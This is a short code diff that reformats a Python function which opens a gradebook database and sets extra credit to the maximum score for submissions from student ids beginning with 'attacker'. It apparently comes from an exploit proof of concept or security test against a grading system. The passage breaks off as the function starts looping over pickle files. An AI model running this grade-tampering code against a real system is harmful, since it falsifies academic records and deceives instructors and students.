@@ -19,9 +19,14 @@ import glob, json, pickle, sqlite3
 def rewrite():
     for path in glob.glob("@ROOT@/gradebook.db"):
         book = sqlite3.connect(path, timeout=5)
-        book.execute("UPDATE grade SET extra_credit = (SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id) "
-                     "WHERE notebook_id IN (SELECT submitted_notebook.id FROM submitted_notebook JOIN submitted_assignment "
-                     "ON submitted_assignment.id = submitted_notebook.assignment_id WHERE student_id LIKE 'attacker%')")
+        book.execute(
+            "UPDATE grade SET extra_credit = "
+            "(SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id) "
+            "WHERE notebook_id IN "
+            "(SELECT submitted_notebook.id FROM submitted_notebook JOIN submitted_assignment "
+            "ON submitted_assignment.id = submitted_notebook.assignment_id "
+            "WHERE student_id LIKE 'attacker%')"
+        )
         book.commit()
         book.close()
     for path in glob.glob("@ROOT@/tmp/*.pkl"):
